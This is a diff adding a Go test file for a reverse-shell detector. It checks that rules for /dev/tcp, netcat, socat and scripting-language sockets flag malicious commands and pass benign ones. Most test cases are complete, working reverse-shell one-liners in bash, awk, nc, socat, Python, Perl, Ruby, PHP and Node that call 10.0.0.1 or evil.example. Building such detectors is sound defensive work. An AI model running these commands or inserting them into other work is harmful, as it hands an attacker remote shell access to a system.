@@ -1,0 +1,55 @@
+package heuristics
+
+import "testing"
+
+func TestReverseShellDevTCP(t *testing.T) {
+	runRuleCases(t, "revshell.dev-tcp", []ruleCase{
+		cmdCase("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
+		cmdCase("sh -i > /dev/udp/10.0.0.1/53 0<&1 2>&1", true),
+		cmdCase("exec 5<>/dev/tcp/evil.example/80; cat <&5 | while read l; do $l 2>&5 >&5; done", true),
+		cmdCase(`bash -c 'bash -i >& /dev/tcp/10.0.0.1/9001 0>&1'`, true),
+		cmdCase(`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) {s |& getline c; print c |& s}}'`, true),
+		cmdCase("ls /dev/ && cat /dev/null", false),
+		cmdCase("nc -zv example.com 443", false),
+	})
+}
+
+func TestReverseShellNetcat(t *testing.T) {
+	runRuleCases(t, "revshell.netcat", []ruleCase{
+		cmdCase("nc -e /bin/sh 10.0.0.1 4444", true),
+		cmdCase("nc 10.0.0.1 4444 -e /bin/bash", true),
+		cmdCase("ncat --exec /bin/bash 10.0.0.1 4444", true),
+		cmdCase("ncat -lvp 4444 --sh-exec 'bash -i'", true),
+		cmdCase("nc -lvnp 4444 -c bash", true),
+		cmdCase("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", true),
+		cmdCase("nc 10.0.0.1 4444 | /bin/bash", true),
+		cmdCase("/bin/sh -i 2>&1 | nc 10.0.0.1 4444", true),
+		cmdCase("sudo nc -e /bin/sh 10.0.0.1 4444", true),
+		cmdCase("nc -zv example.com 443", false),
+		cmdCase("echo test | nc localhost 8080", false),
+		cmdCase("telnet -e ^] example.com 23", false),
+	})
+}
+
+func TestReverseShellSocat(t *testing.T) {
+	runRuleCases(t, "revshell.socat", []ruleCase{
+		cmdCase("socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid", true),
+		cmdCase("socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty", true),
+		cmdCase("socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:'sh'", true),
+		cmdCase("socat TCP-LISTEN:8080,fork TCP:localhost:80", false),
+		cmdCase("socat - UNIX-CONNECT:/var/run/docker.sock", false),
+	})
+}
+
+func TestReverseShellScriptSocket(t *testing.T) {
+	runRuleCases(t, "revshell.script-socket", []ruleCase{
+		cmdCase(`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'`, true),
+		cmdCase(`python -c 'import pty,socket;s=socket.socket();s.connect(("10.0.0.1",1));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, true),
+		cmdCase(`perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, true),
+		cmdCase(`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, true),
+		cmdCase(`php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, true),
+		cmdCase(`node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'`, true),
+		cmdCase(`python3 -c 'import socket; print(socket.gethostname())'`, false),
+		cmdCase(`python3 -c 'import subprocess; subprocess.run(["ls"])'`, false),
+	})
+}
